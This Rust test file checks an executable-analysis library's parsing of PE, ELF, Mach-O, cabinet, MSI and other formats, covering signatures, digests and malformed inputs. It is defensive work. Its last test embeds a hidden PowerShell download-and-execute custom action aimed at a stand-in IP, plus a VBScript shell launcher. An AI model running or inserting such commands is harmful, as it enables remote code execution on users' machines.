//! What is read of executables: files of parts that each test chooses, whole and broken. Comparisons with other programs
//! over real files are in `tests/peers/executables`.

#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test"
)]

use std::time::{Duration, Instant};
use watchfire_formats::executable::authenticode::{self, Trust};
use watchfire_formats::executable::{read, similarity, unpack_cabinet, unpack_installer};
use watchfire_formats::identify::{identify, media};
use watchfire_model::executable::elf::{Relro, StackProtection};
use watchfire_model::executable::pe::{ImportedFunction, PeKind};
use watchfire_model::executable::signature::{ChainOutcome, DigestOutcome, SignedOutcome, ValidityOutcome};
use watchfire_model::executable::{Authenticode, Executable, MarkKind, Pe as PeFacts};
use watchfire_model::{Budget, Halt, Hints, MediaType, Member, MemberSink, Moment, Problem};
use watchfire_testkit::compound::{Node, compound};
use watchfire_testkit::executable::{
    Elf, Installer, Pe, Section, Signing, cabinet, catalog, dex, fat, java_class, mach_o, python, root_certificate,
    sign, version, wasm,
};

/// Reads a file as what it is taken for, which has to be `media_type`; nothing may be wrong with it.
fn check(bytes: &[u8], media_type: MediaType) -> Executable {
    assert_eq!(identify(bytes, &Hints::default()).media_type, media_type);
    let (found, problems) = read(media_type, bytes, &Budget::default());
    assert_eq!(problems, [], "{media_type}");
    found.expect("it is read")
}

fn pe(bytes: &[u8]) -> PeFacts {
    match check(bytes, media::PE) {
        Executable::Pe(pe) => *pe,
        other => panic!("{other:?}"),
    }
}

fn names(function: &ImportedFunction) -> String {
    match function {
        ImportedFunction::Name(name) => name.raw().to_owned(),
        ImportedFunction::Ordinal { ordinal, name } => format!("#{ordinal} {}", name.unwrap_or("?")),
    }
}

#[test]
fn headers_and_sections_are_told() {
    let writable = Section {
        name: "UPX0",
        flags: 0xe000_0080,
        bytes: (0..=255).collect::<Vec<u8>>().repeat(2),
    };
    for wide in [true, false] {
        let mut file = Pe { wide, ..Pe::default() };
        file.sections.push(writable.clone());
        let facts = pe(&file.build());
        assert_eq!(facts.machine.to_string(), if wide { "x86-64" } else { "x86" });
        assert_eq!((facts.bits, facts.kind), (if wide { 64 } else { 32 }, PeKind::Program));
        assert_eq!(facts.subsystem.to_string(), "windows-console");
        let protections: Vec<&str> = facts.protections.names().collect();
        assert_eq!(protections, ["high-entropy-aslr", "aslr", "nx", "control-flow-guard"]);
        assert_eq!(facts.compiled.at.unwrap().to_string(), "2023-11-14T22:13:20Z");
        assert_eq!((facts.entry_section, facts.image_base), (Some(0), 0x40_0000));
        assert!(facts.sections[1].is_writable_code() && !facts.sections[0].is_writable_code());
        assert_eq!(facts.sections[1].entropy.unwrap().0, 8000);
        assert_eq!((facts.marks[0].tool, facts.marks[0].kind), ("UPX", MarkKind::Packer));
        assert!(facts.overlay.is_none() && facts.imphash.is_none());
    }
}

#[test]
fn kinds_are_told_apart() {
    let kind = |characteristics, subsystem, imports: Vec<(&'static str, Vec<&'static str>)>| {
        let file = Pe {
            characteristics,
            subsystem,
            imports,
            ..Pe::default()
        };
        pe(&file.build()).kind
    };
    assert_eq!(kind(0x2022, 2, Vec::new()), PeKind::Library);
    assert_eq!(kind(0x22, 10, Vec::new()), PeKind::Efi);
    assert_eq!(kind(0x22, 1, vec![("ntoskrnl.exe", vec!["ZwClose"])]), PeKind::Driver);
    assert_eq!(kind(0x20, 3, Vec::new()), PeKind::NotExecutable);
}

#[test]
fn imports_have_names_and_the_digest_of_pefile() {
    let file = Pe {
        imports: vec![
            ("KERNEL32.dll", vec!["ExitProcess", "LoadLibraryA"]),
            ("WS2_32.dll", vec!["#115", "#7777", "connect"]),
            ("custom.exe", vec!["#3"]),
        ],
        ..Pe::default()
    };
    for wide in [true, false] {
        let facts = pe(&Pe { wide, ..file.clone() }.build());
        let listed: Vec<String> = facts
            .imports
            .iter()
            .flat_map(|import| &import.functions)
            .map(names)
            .collect();
        assert_eq!(
            listed,
            [
                "ExitProcess",
                "LoadLibraryA",
                "#115 WSAStartup",
                "#7777 ?",
                "connect",
                "#3 ?"
            ]
        );
        // md5("kernel32.exitprocess,kernel32.loadlibrarya,ws2_32.wsastartup,ws2_32.ord7777,ws2_32.connect,custom.exe.ord3")
        assert_eq!(facts.imphash.unwrap().to_string(), IMPHASH);
    }
}

const IMPHASH: &str = "eca2707359ba53466d585b2e68f83408";

#[test]
fn exports_symbols_and_rich_headers_are_told() {
    let file = Pe {
        exports: vec![("Run", None), ("Allocate", Some("NTDLL.RtlAllocateHeap"))],
        symbols: Some("C:\\build\\example.pdb"),
        repeatable: true,
        rich: vec![(0x105, 30_000, 3), (1, 0, 40)],
        ..Pe::default()
    };
    let facts = pe(&file.build());
    let exports = facts.exports.unwrap();
    assert_eq!(exports.library.raw(), "builder.dll");
    assert_eq!(exports.functions[0].name.as_ref().unwrap().raw(), "Run");
    assert_eq!(
        exports.functions[1].forwarder.as_ref().unwrap().raw(),
        "NTDLL.RtlAllocateHeap"
    );
    assert_eq!(facts.debug[0].path.as_ref().unwrap().raw(), "C:\\build\\example.pdb");
    assert_eq!(
        facts.debug[0].guid.unwrap().to_string(),
        "04030201-0605-0807-090a-0b0c0d0e0f10"
    );
    assert!(facts.compiled.is_hash && facts.compiled.at.is_none());
    let rich = facts.rich.unwrap();
    assert!(rich.key_is_right);
    assert_eq!(
        (rich.entries[0].product, rich.entries[0].build, rich.entries[0].count),
        (0x105, 30_000, 3)
    );
}

#[test]
fn resources_version_and_manifest_are_told() {
    let manifest = "<assembly><assemblyIdentity name='Example.App'/><requestedExecutionLevel \
        level=\"requireAdministrator\" uiAccess='false'/><autoElevate>true</autoElevate></assembly>";
    let inner = Pe::default().build();
    let file = Pe {
        resources: vec![
            (
                16,
                1,
                version(&[("CompanyName", "Example GmbH"), ("OriginalFilename", "example.exe")]),
            ),
            (24, 1, manifest.as_bytes().to_vec()),
            (10, 5, inner.clone()),
        ],
        ..Pe::default()
    };
    let bytes = file.build();
    let facts = pe(&bytes);
    let strings: Vec<(&str, &str)> = facts
        .version
        .iter()
        .map(|pair| (pair.key.raw(), pair.value.raw()))
        .collect();
    assert_eq!(
        strings,
        [("CompanyName", "Example GmbH"), ("OriginalFilename", "example.exe")]
    );
    assert_eq!(facts.version_numbers, Some([[1, 2, 3, 4], [5, 6, 7, 8]]));
    let manifest = facts.manifest.unwrap();
    assert_eq!(manifest.execution_level.unwrap().raw(), "requireAdministrator");
    assert_eq!(manifest.auto_elevate.unwrap().raw(), "true");
    assert_eq!(manifest.name.unwrap().raw(), "Example.App");
    let carried = &facts.resources[2];
    assert_eq!(carried.begins, Some("pe"));
    let (start, end) = (carried.span.start as usize, carried.span.end as usize);
    assert_eq!(bytes[start..end], inner);
}

#[test]
fn what_is_appended_tells_the_installer() {
    for (overlay, begins, tool) in [
        (
            b"\0\0\0\0\xef\xbe\xad\xdeNullsoftInst and more".as_slice(),
            "nsis",
            "NSIS",
        ),
        (b"7z\xbc\xaf\x27\x1c and more", "7z", "7-Zip SFX"),
        (b"Rar!\x1a\x07\x01\0 and more", "rar", "RAR SFX"),
        (b"MSCF\0\0\0\0 and more", "cab", "CAB SFX"),
        (b"PK\x03\x04 and MEI\x0c\x0b\x0a\x0b\x0e", "zip", "PyInstaller"),
    ] {
        let file = Pe {
            overlay: overlay.to_vec(),
            ..Pe::default()
        };
        let bytes = file.build();
        let facts = pe(&bytes);
        let found = facts.overlay.unwrap();
        assert_eq!(found.begins, Some(begins));
        assert_eq!(found.span.end - found.span.start, overlay.len() as u64);
        assert!(facts.marks.iter().any(|mark| mark.tool == tool), "{tool}");
    }
}

/// The present, and the root of the test keys.
fn trust() -> Trust {
    let mut trust = Trust::at(Moment::parse("2027-01-01").unwrap());
    assert!(trust.add_root(&root_certificate()));
    trust
}

fn verify(bytes: &[u8], trust: &Trust) -> Authenticode {
    let (found, problems) = authenticode::verify(media::PE, bytes, trust, &Budget::default());
    assert_eq!(problems, []);
    found.expect("a PE can be signed")
}

#[test]
fn a_whole_signature_leads_to_its_root() {
    let file = Pe::default().build();
    for with_root in [true, false] {
        let signing = Signing {
            with_root,
            ..Signing::default()
        };
        let found = verify(&sign(&file, &signing), &trust());
        let [signature] = found.signatures.as_slice() else {
            panic!("{found:?}")
        };
        assert_eq!(signature.digest, DigestOutcome::Matches);
        assert_eq!(signature.signed, SignedOutcome::Valid);
        assert_eq!(signature.trust, ChainOutcome::Trusted("Example Root".into()));
        assert_eq!(signature.validity.outcome, ValidityOutcome::Valid);
        assert!(signature.for_code && found.appended == 0);
        assert_eq!(signature.certificates[0].subject.raw(), "CN=Example Signer\\, Inc");
        let nobody = verify(&sign(&file, &signing), &Trust::at(Moment::from_unix(0)));
        let expected = if with_root {
            ChainOutcome::UnknownRoot
        } else {
            ChainOutcome::Incomplete
        };
        assert_eq!(nobody.signatures[0].trust, expected);
        assert_eq!(nobody.signatures[0].validity.outcome, ValidityOutcome::NotYet);
    }
    assert_eq!(verify(&file, &trust()).signatures, []);
}

#[test]
fn what_was_changed_after_signing_is_told() {
    let file = Pe::default().build();
    let mut changed = sign(&file, &Signing::default());
    changed[0x210] ^= 1;
    let found = verify(&changed, &trust());
    assert_eq!(
        (found.signatures[0].digest, &found.signatures[0].signed),
        (DigestOutcome::Differs, &SignedOutcome::Valid)
    );
    let broken = Signing {
        broken: true,
        ..Signing::default()
    };
    let found = verify(&sign(&file, &broken), &trust());
    assert_eq!(found.signatures[0].digest, DigestOutcome::Matches);
    assert!(matches!(found.signatures[0].signed, SignedOutcome::Invalid(_)));
    let other = Signing {
        digest: Some(vec![1; 32]),
        ..Signing::default()
    };
    assert_eq!(
        verify(&sign(&file, &other), &trust()).signatures[0].digest,
        DigestOutcome::Differs
    );
}

#[test]
fn purposes_times_and_appended_bytes_are_told() {
    let file = Pe::default().build();
    let signing = Signing {
        not_for_code: true,
        until: Some("250101"),
        appended: b"not signed by anybody".to_vec(),
        ..Signing::default()
    };
    let found = verify(&sign(&file, &signing), &trust());
    let signature = &found.signatures[0];
    assert!(!signature.for_code && signature.signed == SignedOutcome::Valid);
    assert_eq!(
        (signature.validity.outcome, signature.validity.witnessed),
        (ValidityOutcome::Expired, false)
    );
    assert_eq!(found.appended, 21);
}

#[test]
fn a_file_is_found_in_a_catalog() {
    let file = Pe::default().build();
    let own = verify(&file, &trust()).digests;
    let listed = catalog(&[vec![9; 32], own[1].digest.bytes().to_vec()], &Signing::default());
    let Executable::Catalog(facts) = check(&listed, media::CATALOG) else {
        panic!("no catalog")
    };
    assert_eq!(facts.members.len(), 2);
    assert_eq!(facts.made.unwrap().to_string(), "2023-11-15T00:00:00Z");
    let (signed, _) = authenticode::verify(media::CATALOG, &listed, &trust(), &Budget::default());
    let signature = &signed.unwrap().signatures[0];
    assert_eq!(signature.signed, SignedOutcome::Valid);
    assert_eq!(signature.trust, ChainOutcome::Trusted("Example Root".into()));
    let mut trust = trust();
    let number = trust.add_catalog(&facts);
    assert_eq!(verify(&file, &trust).catalog.map(|found| found.catalog), Some(number));
    let other = Pe {
        timestamp: 1,
        ..Pe::default()
    };
    assert_eq!(verify(&other.build(), &trust).catalog, None);
}

#[test]
fn elf_files_are_told() {
    let file = Elf {
        runpath: Some("$ORIGIN/../lib"),
        overlay: b"hsqs and more".to_vec(),
        ..Elf::default()
    };
    let Executable::Elf(facts) = check(&file.build(), media::ELF) else {
        panic!("no ELF")
    };
    assert_eq!((facts.bits, facts.machine.to_string().as_str()), (64, "x86-64"));
    assert_eq!(facts.interpreter.unwrap().raw(), "/lib64/ld-linux-x86-64.so.2");
    assert_eq!(facts.needed, ["libc.so.6".into()]);
    assert_eq!(facts.runpath.unwrap().raw(), "$ORIGIN/../lib");
    assert_eq!(facts.imports, ["exit".into(), "puts".into()]);
    assert_eq!((facts.relro, facts.stack), (Relro::Full, StackProtection::Protected));
    assert!(facts.position_independent && facts.stripped && !facts.linked_statically);
    assert_eq!(facts.overlay.unwrap().begins, Some("squashfs"));
    for (stack, expected) in [(None, StackProtection::Unsaid), (Some(7), StackProtection::Executable)] {
        let Executable::Elf(facts) = check(
            &Elf {
                stack,
                ..Elf::default()
            }
            .build(),
            media::ELF,
        ) else {
            panic!("no ELF")
        };
        assert_eq!(facts.stack, expected);
    }
}

#[test]
fn mach_o_files_are_told_thin_and_fat() {
    let thin = mach_o(&["/usr/lib/libSystem.B.dylib", "@rpath/Example"]);
    for bytes in [thin.clone(), fat(&[thin.clone(), thin])] {
        let Executable::MachO(facts) = check(&bytes, media::MACH_O) else {
            panic!("no Mach-O")
        };
        assert_eq!(facts.images.len(), if facts.fat { 2 } else { 1 });
        let image = facts.images.last().unwrap();
        assert_eq!((image.cpu.to_string().as_str(), image.bits), ("arm64", 64));
        assert_eq!(image.libraries[1].path.raw(), "@rpath/Example");
        let build = image.build.unwrap();
        assert_eq!(
            (build.platform.to_string().as_str(), build.minimum, build.sdk),
            ("macos", (11, 0, 0), (13, 3, 0))
        );
        assert_eq!(image.segments[0].name.raw(), "__TEXT");
    }
}

#[test]
fn the_smaller_formats_are_told() {
    let Executable::JavaClass(class) = check(&java_class("com/example/Main"), media::JAVA_CLASS) else {
        panic!()
    };
    assert_eq!((class.version, class.has_main), ((52, 0), true));
    assert_eq!(class.name.unwrap().raw(), "com/example/Main");
    assert_eq!(class.source.unwrap().raw(), "Main.java");
    let Executable::Dex(facts) = check(&dex(&["Lcom/example/Main;"]), media::DEX) else {
        panic!()
    };
    assert!(facts.checksum_is_right && facts.classes == ["Lcom/example/Main;".into()]);
    let Executable::WebAssembly(module) = check(&wasm(), media::WASM) else {
        panic!()
    };
    assert_eq!(module.imports, [("env".into(), "log".into())]);
    assert_eq!((module.exports, module.sections.len()), (vec!["run".into()], 6));
    let Executable::PythonBytecode(code) = check(&python("example.py"), media::PYC) else {
        panic!()
    };
    assert_eq!((code.version, code.source_size), (Some("3.11"), Some(1234)));
    assert_eq!(code.source.unwrap().raw(), "example.py");
}

#[derive(Default)]
struct Collected(Vec<Member>);

impl MemberSink for Collected {
    fn member(&mut self, member: Member) -> Result<(), Halt> {
        self.0.push(member);
        Ok(())
    }

    fn problem(&mut self, problem: Problem) {
        panic!("{problem:?}");
    }
}

#[test]
fn cabinets_are_listed_and_unpacked() {
    let long: Vec<u8> = (0..100_000_u32).map(|number| (number / 7 % 251) as u8).collect();
    let bytes = cabinet(&[("a.txt", b"hello"), ("b.bin", &long)]);
    let Executable::Cabinet(facts) = check(&bytes, media::CAB) else {
        panic!()
    };
    assert_eq!(
        (facts.folders, facts.version, facts.set),
        (vec!["mszip"], (1, 3), 0x1234)
    );
    assert_eq!((facts.members[1].name.raw(), facts.members[1].size), ("b.bin", 100_000));
    let mut sink = Collected::default();
    unpack_cabinet(&bytes, &Budget::default(), &mut sink).unwrap();
    assert_eq!(
        (sink.0[0].bytes.as_slice(), &sink.0[1].bytes),
        (b"hello".as_slice(), &long)
    );
}

#[test]
fn damaged_files_still_show_what_is_there() {
    let file = Pe {
        imports: vec![("KERNEL32.dll", vec!["ExitProcess"])],
        ..Pe::default()
    };
    let mut bytes = file.build();
    bytes.truncate(0x400 + 10);
    let (found, problems) = read(media::PE, &bytes, &Budget::default());
    let Some(Executable::Pe(facts)) = found else {
        panic!("nothing")
    };
    assert_eq!(facts.sections.len(), 2);
    assert!(
        problems.iter().any(|problem| problem.code == "pe-truncated"),
        "{problems:?}"
    );
    let (found, problems) = read(media::PE, b"MZ", &Budget::default());
    assert!(found.is_none() && problems[0].code == "executable-header");
}

#[test]
fn tables_that_overlap_without_end_cost_little() {
    // A section header that is repeated over the whole file: each says that it is all of it.
    let mut bytes = Pe::default().build();
    bytes.resize(3 << 20, 0);
    let start = 128 + 24 + 240;
    let header = bytes[start..start + 40].to_vec();
    for at in (start..bytes.len() - 40).step_by(40) {
        bytes[at..at + 40].copy_from_slice(&header);
        bytes[at + 16..at + 24].copy_from_slice(b"\0\0\x2f\0\0\0\0\0");
    }
    bytes[128 + 6..128 + 8].copy_from_slice(b"\xff\xff");
    let begin = Instant::now();
    let (found, problems) = read(media::PE, &bytes, &Budget::default());
    assert!(begin.elapsed() < Duration::from_secs(5), "{:?}", begin.elapsed());
    let Some(Executable::Pe(facts)) = found else {
        panic!("nothing")
    };
    assert_eq!(facts.sections.len(), 65_535);
    assert!(problems.iter().any(|problem| problem.code == "executable-overlapping"));
}

#[test]
fn cabinets_that_unpack_the_same_again_and_again_end_soon() {
    // Folder after folder, each of them all blocks of one and the same place.
    let mut bytes = cabinet(&[("a.txt", &[7; 32 << 10])]);
    let members = 60_000_u16;
    bytes[26..28].copy_from_slice(&members.to_le_bytes());
    bytes[28..30].copy_from_slice(&members.to_le_bytes());
    let data = u32::from_le_bytes(bytes[36..40].try_into().unwrap());
    let at = bytes.len() as u32;
    bytes.truncate(36);
    // The block stands where the folders end, and members come behind.
    let block = cabinet(&[("a.txt", &[7; 32 << 10])])[data as usize..].to_vec();
    let block_at = 36 + u32::from(members) * 8;
    for _ in 0..members {
        bytes.extend(block_at.to_le_bytes());
        bytes.extend([0xff, 0xff, 1, 0]);
    }
    bytes.extend(&block);
    let list = bytes.len() as u32;
    for folder in 0..members {
        bytes.extend(1_u32.to_le_bytes());
        bytes.extend(0_u32.to_le_bytes());
        bytes.extend(folder.to_le_bytes());
        bytes.extend([0; 6]);
        bytes.extend(b"a\0");
    }
    bytes[16..20].copy_from_slice(&list.to_le_bytes());
    assert!(at < list, "the cabinet grew");
    struct Silent(usize);
    impl MemberSink for Silent {
        fn member(&mut self, _: Member) -> Result<(), Halt> {
            self.0 += 1;
            Ok(())
        }
        fn problem(&mut self, _: Problem) {}
    }
    let begin = Instant::now();
    let _ = unpack_cabinet(&bytes, &Budget::default(), &mut Silent(0));
    assert!(begin.elapsed() < Duration::from_secs(5), "{:?}", begin.elapsed());
}

#[test]
fn packages_show_their_streams_and_summary() {
    let mut summary = vec![0; 48];
    summary[44] = 48;
    summary.extend(b"\x30\0\0\0\x01\0\0\0\x02\0\0\0\x10\0\0\0");
    summary.extend(b"\x1e\0\0\0\x08\0\0\0Example\0");
    let mut bytes = compound(&[
        Node::Stream("\u{5}SummaryInformation".to_owned(), summary),
        Node::Stream("\u{4840}\u{3b3f}\u{43f2}\u{4438}\u{45b1}".to_owned(), vec![1; 20]),
    ]);
    // The class of the root says that it is a package.
    let root: Vec<u8> = "Root Entry".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let at = bytes.windows(root.len()).position(|window| window == root).unwrap();
    bytes[at + 80..at + 96].copy_from_slice(b"\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0\x46");
    let Executable::Installer(facts) = check(&bytes, media::MSI) else {
        panic!("no package")
    };
    assert_eq!((facts.kind, facts.signed), (Some("package"), false));
    assert_eq!(facts.summary, [("title", "Example".into())]);
    assert!(facts.streams.contains(&("!_Columns".into(), 20)), "{:?}", facts.streams);
}

#[test]
fn digests_of_similarity_are_those_of_their_programs() {
    // The digests are those of the programs ssdeep and tlsh.
    let text: String = (0..2000_u32)
        .map(|number| format!("{} ", number * number % 7919))
        .collect();
    assert_eq!(similarity::tlsh(text.as_bytes()).as_deref(), Some(TLSH));
    assert_eq!(similarity::piecewise(text.as_bytes()), SSDEEP);
}

const TLSH: &str = "T16E1278BCA4ECF2CD191FFBC4EB17D896DA5A122A1B09442F42998DA02A47715EFC3850";
const SSDEEP: &str =
    "192:TihITrZPncfvbjqV6FQGXyp9t6XcrOozOVn1wzl4ON8wcWezT5dow5pjVdkSI7Un:Tii/Z/cfQuyjYMrOoYYNVcToCd3AQ";

/// The members of a package by their names.
fn members_of(package: &[u8]) -> Vec<(String, Vec<u8>)> {
    #[derive(Default)]
    struct Kept(Vec<(String, Vec<u8>)>);
    impl MemberSink for Kept {
        fn member(&mut self, member: Member) -> Result<(), Halt> {
            self.0.push((member.name.raw().to_owned(), member.bytes));
            Ok(())
        }
        fn problem(&mut self, problem: Problem) {
            panic!("{problem:?}");
        }
    }
    let mut kept = Kept::default();
    unpack_installer(package, &Budget::default(), &mut kept).unwrap();
    kept.0.sort();
    kept.0
}

#[test]
fn packages_hand_out_what_they_bring_and_what_they_do() {
    let inner = cabinet(&[("fil1", b"MZ program")]);
    let package = Installer {
        streams: vec![
            ("data.cab", inner.clone()),
            ("Binary.helper.dll", b"MZ a library that an action calls".repeat(200)),
            ("Icon.app", vec![0, 0, 1, 0]),
        ],
        actions: vec![
            (
                "RunIt",
                0xc22,
                "TARGETDIR",
                "powershell -nop -w hidden -c \"iwr http://198.51.100.7/a | iex\"",
            ),
            ("Call", 1, "helper.dll", "Start"),
            ("Script", 38, "", "CreateObject(\"WScript.Shell\").Run \"calc\""),
        ],
        files: vec![("fil1", "SETUP~1.EXE|setup-helper.exe")],
    };
    let members = members_of(&package.build());
    let names: Vec<&str> = members.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(
        names,
        [
            "Binary.helper.dll",
            "CustomAction.Script.vbs",
            "CustomAction.txt",
            "File.txt",
            "Icon.app",
            "data.cab"
        ]
    );
    let content = |wanted: &str| {
        let (_, bytes) = members.iter().find(|(name, _)| name == wanted).unwrap();
        bytes.clone()
    };
    assert_eq!(content("data.cab"), inner);
    assert_eq!(content("Binary.helper.dll").len(), 33 * 200);
    assert_eq!(
        String::from_utf8(content("CustomAction.txt")).unwrap(),
        "RunIt\t3106\tTARGETDIR\tpowershell -nop -w hidden -c \"iwr http://198.51.100.7/a | iex\"\n\
         Call\t1\thelper.dll\tStart\n"
    );
    assert_eq!(
        content("CustomAction.Script.vbs"),
        b"CreateObject(\"WScript.Shell\").Run \"calc\""
    );
    assert_eq!(content("File.txt"), b"fil1\tMain\tSETUP~1.EXE|setup-helper.exe\n");
    // One without tables has its streams all the same.
    assert_eq!(
        members_of(&compound(&[Node::Stream("\u{4801}".to_owned(), vec![1])])).len(),
        1
    );
}
